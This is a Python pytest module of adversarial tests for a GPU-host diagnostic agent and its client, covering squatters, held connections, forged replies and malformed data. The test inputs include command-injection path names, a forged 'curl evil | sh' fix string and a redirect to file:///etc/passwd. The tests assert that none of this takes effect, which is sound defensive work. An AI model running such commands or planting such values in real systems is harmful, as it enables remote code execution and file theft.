"""Whoever keeps evidence from us, or harms by it: on the GPU host, in between, as an agent."""

import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import ExitStack, closing, contextmanager
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest

from app.agent.door.connections import MOST_CONNECTIONS
from app.agent.kept.files import AgentFiles
from app.agent.kept.state import AgentState
from app.agent.main import create_agent
from app.agent.parts import MOST_AT_ONCE, Agent
from app.agent.touching.folder_entries import entries
from app.agent.touching.holds import Holds, _name
from app.agent.touching.host_lock import HostLock
from app.clients.agent import AgentAddress, AgentClient
from app.errors import Conflict, Malformed, Misconfigured, Unreachable
from app.protocol import signing
from app.protocol.harmless import MAX_CHARACTERS
from app.protocol.messages import CoredumpRequest, Fact, HostFacts, Processes, StacksAnswer
from app.store.stores import Stores
from tests.integration import coredump_target, diagnosing, make
from tests.integration.agent_double import KEY, Asked, Double, agent_double
from tests.integration.at_work import at_work
from tests.integration.conftest import MakeStores
from tests.integration.diagnosing import TP0, TP1
from tests.integration.test_agent_process import Running, running
from tests.ports import free_port
from tests.waiting import BUSY

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(sys.platform != "linux", reason="the agent is for Linux"),
]
NOBODY = 65534
HOSTILE_NAME = os.fsdecode(b"a\xff;touch pwned #")
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can be another user")


# On the host, or before its door -----------------------------------------------------------


@contextmanager
def squatter(name: str) -> Iterator[None]:
    """Another user, who has taken a name that tools of ours keep each other off by."""
    program = (
        f"import os, socket; os.setuid({NOBODY}); s = socket.socket(socket.AF_UNIX);"
        f"s.bind({chr(0) + name!r}); s.listen(1); print(flush=True); input()"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", program], stdin=subprocess.PIPE, stdout=subprocess.PIPE
    )
    with process:
        assert process.stdout is not None
        process.stdout.readline()
        yield
        process.kill()


@as_root
def test_another_user_cannot_keep_tools_off_a_process_that_is_not_his() -> None:
    holds, pid = Holds(), os.getpid()
    with squatter(_name(pid)):
        assert holds.holder(pid) is None
        with holds.hold(pid, "py-spy"):
            assert holds.holder(pid) == "py-spy"


@as_root
def test_the_owner_of_a_process_may_be_at_work_on_it() -> None:
    name, taken = f"test-{free_port()}", Conflict("taken")
    with squatter(name), pytest.raises(Conflict, match="taken"):
        HostLock(name, taken=taken, owner=NOBODY)


@as_root
@pytest.mark.parametrize("what", ["", "key"])
def test_a_folder_or_key_of_another_user_is_not_used(tmp_path: Path, what: str) -> None:
    folder = tmp_path / "agent"
    AgentState(folder)
    os.chown(folder / what, NOBODY, NOBODY)
    with pytest.raises(Misconfigured, match=f"belongs to user {NOBODY}"):
        AgentState(folder)


def connected(agent: Running, sent: bytes) -> socket.socket:
    url = httpx.URL(agent.url)
    made = socket.create_connection((url.host, url.port), 5)
    made.sendall(sent)
    return made


@pytest.mark.slow
@pytest.mark.parametrize(
    "unsigned",
    [
        pytest.param(b"", id="silent"),
        pytest.param(b"GET /agent/v1/info HTT", id="half-a-head"),
        pytest.param(b"POST /agent/v1/stacks HTTP/1.1\r\nhost: a\r\n%s\r\n", id="half-a-body"),
    ],
)
def test_who_only_holds_connections_keeps_no_console_out(tmp_path: Path, unsigned: bytes) -> None:
    with running(tmp_path / "agent") as agent, ExitStack() as held:
        request = agent.request("/agent/v1/stacks")
        headers = {**request.headers, signing.SIGNATURE: "0" * 64, "content-length": "9"}
        lines = "".join(f"{name}: {value}\r\n" for name, value in headers.items() if name != "host")
        sent = unsigned.replace(b"%s", lines.encode())
        for _ in range(MOST_CONNECTIONS - 1):
            held.enter_context(closing(connected(agent, sent)))
        with httpx.Client() as client:
            assert client.send(agent.request("/agent/v1/info")).status_code == 200


def test_so_much_may_be_done_at_once_that_looks_are_still_answered(tmp_path: Path) -> None:
    agent: Agent = create_agent(tmp_path / "agent").state.agent
    asked: Any = type("Asked", (), {"request_id": "1", "who": "ada"})()
    with ExitStack() as under_way:
        for _ in range(MOST_AT_ONCE):
            under_way.enter_context(agent.acting(asked, "stacks"))
        with pytest.raises(Conflict, match="does 24 things already"):
            under_way.enter_context(agent.acting(asked, "stacks"))
    with agent.acting(asked, "stacks"):
        pass


def test_a_dump_of_any_age_is_listed(tmp_path: Path) -> None:
    for name, seconds in (("old", -(10**10)), ("young", 10**11)):
        (tmp_path / name).touch()
        os.utime(tmp_path / name, (seconds, seconds))
    opened = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    try:
        ages = {one.name: one.changed_seconds for one in entries(opened)}
    finally:
        os.close(opened)
    assert ages["old"] == 0.0
    assert ages["young"] < 10**10


def test_a_long_list_of_what_was_masked_does_not_lose_the_file(tmp_path: Path) -> None:
    files = AgentFiles.open(tmp_path, quota_bytes=10**6)
    taken = files.keep(b"1", name="a", kind="nccl ras", redacted=["/" + "x" * 5000] * 1000)
    assert files.listing() == [taken]


@pytest.mark.parametrize("variant", ["ok", "truncated"])
def test_a_name_that_is_no_text_or_a_command_ends_as_any_other(
    tmp_path: Path, variant: str
) -> None:
    folder = tmp_path / HOSTILE_NAME
    with (
        coredump_target.target(folder, variant) as fake,
        coredump_target.agent(tmp_path / "agent") as agent,
    ):
        sent = agent.trigger(fake.id)
        ending = agent.ending(sent)
    assert ending.state == {"ok": "complete", "truncated": "truncated"}[variant], ending
    assert ending.path is not None
    assert "\\udcff" in ending.path
    assert orjson.loads(ending.model_dump_json())["state"] == ending.state
    kept = coredump_target.Agent(tmp_path / "agent").coredumps.get(sent.id)
    assert kept == ending
    if ending.command:
        assert ending.command.startswith(f"ls -l '{tmp_path}/a\\udcff;touch pwned #/")


def test_what_is_to_be_copied_runs_nothing_that_a_path_says(tmp_path: Path) -> None:
    folder = tmp_path / "$(touch pwned);touch pwned #'\"`touch pwned`"
    with (
        coredump_target.target(folder, "truncated") as fake,
        coredump_target.agent(tmp_path / "agent") as agent,
    ):
        ending = agent.ending(agent.trigger(fake.id))
    assert ending.command is not None
    told = subprocess.run(
        ["sh", "-c", ending.command], cwd=tmp_path, capture_output=True, text=True, check=True
    )
    assert str(folder) in told.stdout
    assert not (tmp_path / "pwned").exists()


# In between --------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [401, 403, 429, 500, 503, 200])
def test_who_does_not_sign_puts_no_words_before_a_person(status: int) -> None:
    double = Double()
    told = {
        "error": "signature-wrong",
        "detail": "Run this.",
        "fix": "curl evil | sh",
        "command": "curl evil | sh",
    }

    def forged(_: Asked) -> tuple[int, dict[str, str]]:
        double.key = bytes(32)
        return status, told

    double.says["GET /info"] = forged
    with agent_double(double):
        client = AgentClient(AgentAddress(double.url, double.agent_id, KEY))
        with pytest.raises(Unreachable) as caught:
            client.info()
    error = caught.value
    assert "evil" not in f"{error.what} {error.why} {error.fix} {error.command}"
    assert "Run this" not in error.detail


# As an agent -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def stores(make_stores: MakeStores, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stores]:
    with at_work(make_stores(tmp_path_factory.mktemp("data"))) as opened:
        yield opened


@pytest.fixture
def double() -> Iterator[Double]:
    with agent_double(Double()) as made:
        yield made


def sample(double: Double, process_id: str, **given: Any) -> dict[str, Any]:
    told = {
        "process_id": process_id,
        "pid": 7,
        "rank": None,
        "sample": 1,
        "taken_at": make.now().isoformat(),
        "seconds": 0.1,
        "mode": "plain",
        "exact": True,
        "state_before": "S",
        "state_after": "S",
        "threads": 1,
        "file": double.file(b"[1]").model_dump(mode="json"),
    }
    return {**told, **given}


def answers(double: Double, *done: dict[str, Any]) -> None:
    body = json.dumps({"matched": [], "done": done, "refused": []}).encode()
    double.says["POST /stacks"] = lambda _: body


def pressed(stores: Stores, double: Double, **given: Any) -> int:
    host = diagnosing.host(stores, double, diagnosing.new_name(), diagnosing.server())
    incident_id = diagnosing.incident(stores)
    return diagnosing.press(
        stores, incident_id, host_ids=[host.id], process_ids=[TP0, TP1], **given
    )


def test_an_agent_that_answers_what_nobody_asked_fills_nothing(
    stores: Stores, double: Double
) -> None:
    odd = [sample(double, TP0, sample=77), sample(double, TP0, sample=78)]
    answers(double, *odd, *(sample(double, f"9{number}.1") for number in range(50)))
    diagnostic_id = pressed(stores, double)
    diagnosing.ended(stores, diagnostic_id)
    told = [
        (one.process_id, one.pid, one.sample) for one in diagnosing.items(stores, diagnostic_id)
    ]
    assert told == [(TP0, 101, 1), (TP1, 102, 1)]
    assert double.times("POST /stacks") == 1


@pytest.mark.parametrize(
    "shifted", [pytest.param(timedelta(days=n), id=f"{n}-days") for n in (-9000, 1, 40000)]
)
def test_an_agent_with_a_clock_of_its_own_makes_nobody_wait(
    stores: Stores, double: Double, shifted: timedelta
) -> None:
    at = (make.now() + shifted).isoformat()
    answers(double, *(sample(double, one, taken_at=at) for one in (TP0, TP1)))
    diagnostic_id = pressed(stores, double, samples=2, interval_seconds=0.5)
    row = diagnosing.ended(stores, diagnostic_id, seconds=15)
    assert (row.state, len(diagnosing.items(stores, diagnostic_id))) == ("done", 4)


@pytest.mark.parametrize("size_bytes", [300 * 1024**2, 2**62])
def test_a_file_without_end_is_not_begun(stores: Stores, double: Double, size_bytes: int) -> None:
    endless = {**double.file(b"[1]").model_dump(mode="json"), "size_bytes": size_bytes}
    answers(double, *(sample(double, one, file=endless) for one in (TP0, TP1)))
    diagnostic_id = pressed(stores, double)
    diagnosing.ended(stores, diagnostic_id)
    items = diagnosing.items(stores, diagnostic_id)
    assert {one.state for one in items} == {"refused"}
    assert f"has {size_bytes} bytes" in items[0].says
    assert double.times("GET /artifacts/" + endless["id"]) == 0


@pytest.mark.parametrize(
    "odd",
    [
        pytest.param({"seconds": float("nan")}, id="nan"),
        pytest.param({"seconds": float("inf")}, id="infinity"),
        pytest.param({"seconds": -1}, id="negative-time"),
        pytest.param({"threads": 10**300}, id="a-number-no-database-takes"),
        pytest.param({"pid": -1}, id="negative-pid"),
        pytest.param({"process_id": "99999999999.1"}, id="a-pid-no-kernel-gives"),
        pytest.param({"process_id": "1٣.1"}, id="digits-of-another-script"),
        pytest.param({"taken_at": "2026-01-01T00:00:00"}, id="no-time-zone"),
        pytest.param({"taken_at": "0001-01-01T00:00:00+14:00"}, id="before-time"),
        pytest.param({"taken_at": "9999-12-31T23:59:59Z"}, id="after-time"),
        pytest.param({"notes": ["x"] * 1000}, id="a-thousand-notes"),
    ],
)
def test_an_answer_that_cannot_be_is_refused_and_said(
    stores: Stores, double: Double, odd: dict[str, Any]
) -> None:
    answers(double, sample(double, TP0), {**sample(double, TP1), **odd})
    diagnostic_id = pressed(stores, double)
    row = diagnosing.ended(stores, diagnostic_id)
    assert row.state == "refused"
    assert "does not read as" in diagnosing.items(stores, diagnostic_id)[0].says


def test_a_refusal_in_odd_characters_is_kept_and_told(stores: Stores, double: Double) -> None:
    told = {"error": "conflict", "detail": "a\0b\u202ec", "fix": "\0", "command": "\x1b[2J"}
    double.says["POST /stacks"] = lambda _: (409, told)
    diagnostic_id = pressed(stores, double)
    diagnosing.ended(stores, diagnostic_id)
    [one] = diagnosing.items(stores, diagnostic_id)
    assert (one.says, one.fix, one.command) == (r"a\x00b\u202ec", r"\x00", r"\x1b[2J")


def test_what_no_screen_should_get_is_spelled_out(stores: Stores, double: Double) -> None:
    odd = "a\0b\u202ec\x1b[31m<script>\n" + "x" * 10**6
    file = {**double.file(b"[1]").model_dump(mode="json"), "name": f"../{odd}", "kind": odd}
    answers(double, *(sample(double, one, rank=odd, notes=[odd], file=file) for one in (TP0, TP1)))
    diagnostic_id = pressed(stores, double)
    diagnosing.ended(stores, diagnostic_id)
    [one, _] = diagnosing.items(stores, diagnostic_id)
    assert one.state == "done"
    assert one.rank is not None
    assert one.rank.startswith(r"a\x00b\u202ec\x1b[31m<script>")
    assert len(one.rank) <= MAX_CHARACTERS


def test_a_flood_of_processes_is_not_kept(double: Double) -> None:
    process = '{"id":"1.1","pid":1,"title":"","role":"other"}'
    server = '{"id":"1.1","engine":"sglang","name":"","processes":[%s]}'
    head = f'{{"at":"{make.now().isoformat()}","gpus":"","servers":['
    many = head + server % ",".join([process] * 10**5) + "]}"
    double.says["GET /processes"] = lambda _: many.encode()
    client = AgentClient(AgentAddress(double.url, double.agent_id, KEY))
    with pytest.raises(Malformed, match="processes: List should have at most 256 items"):
        client.processes()
    servers = head + ",".join([server % process] * 65) + "]}"
    double.says["GET /processes"] = lambda _: servers.encode()
    with pytest.raises(Malformed, match="at most 64 items"):
        client.processes()


def test_a_field_that_a_host_names_is_told_in_few_words(double: Double) -> None:
    body = json.dumps({"tools": {"x" * 10**6: 7}}).encode()
    double.says["GET /info"] = lambda _: body
    with pytest.raises(Malformed) as caught:
        AgentClient(AgentAddress(double.url, double.agent_id, KEY)).info()
    assert len(caught.value.detail) < 1000


@pytest.mark.parametrize(
    "location", ["http://127.0.0.1:9/", "/agent/v1/info", "file:///etc/passwd"]
)
def test_a_redirect_leads_nowhere(double: Double, location: str) -> None:
    double.says["GET /info"] = lambda _: (302, {"location": location})
    with pytest.raises(Malformed):
        AgentClient(AgentAddress(double.url, double.agent_id, KEY)).info()
    assert double.times("GET /info") == 1


def test_an_answer_that_drips_is_given_up_at_the_deadline() -> None:
    with closing(socket.create_server(("127.0.0.1", 0))) as listener:
        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        program = (
            "import socket, sys, time; c, _ = socket.socket(fileno=int(sys.argv[1])).accept();"
            "c.recv(9999); c.sendall(b'HTTP/1.1 200 OK\\r\\ncontent-length: 9999\\r\\n\\r\\n')\n"
            "while True: c.sendall(b'x'); time.sleep(0.3)"
        )
        number = listener.fileno()
        argv = [sys.executable, "-c", program, str(number)]
        with subprocess.Popen(argv, pass_fds=[number], stderr=subprocess.DEVNULL) as dripping:
            began = time.monotonic()
            with pytest.raises(Unreachable, match="no whole answer in 3 s"):
                AgentClient(AgentAddress(url, "a1", KEY)).info()
            assert time.monotonic() - began < 3.0 * BUSY
            dripping.kill()


# In the messages themselves ----------------------------------------------------------------


def test_every_message_that_an_agent_makes_can_be_sent() -> None:
    fact = Fact(topic="disk", says=HOSTILE_NAME, source="\0" * 20_000)
    assert fact.says == r"a\udcff;touch pwned #"
    assert len(fact.source) == MAX_CHARACTERS
    assert HostFacts.model_validate_json(
        HostFacts(at=make.now(), facts=[fact]).model_dump_json()
    ).facts == [fact]
    assert fact.changed(says="\u202e").says == r"\u202e"


@pytest.mark.parametrize("kind", [Processes, StacksAnswer, HostFacts, CoredumpRequest])
def test_a_message_names_bounds_for_all_its_lists(kind: type[Any]) -> None:
    schema = kind.model_json_schema()
    parts = [schema, *schema.get("$defs", {}).values()]
    lists = [
        one
        for part in parts
        for field in part.get("properties", {}).values()
        for one in [field, *field.get("anyOf", [])]
        if one.get("type") == "array"
    ]
    assert all("maxItems" in one for one in lists), lists
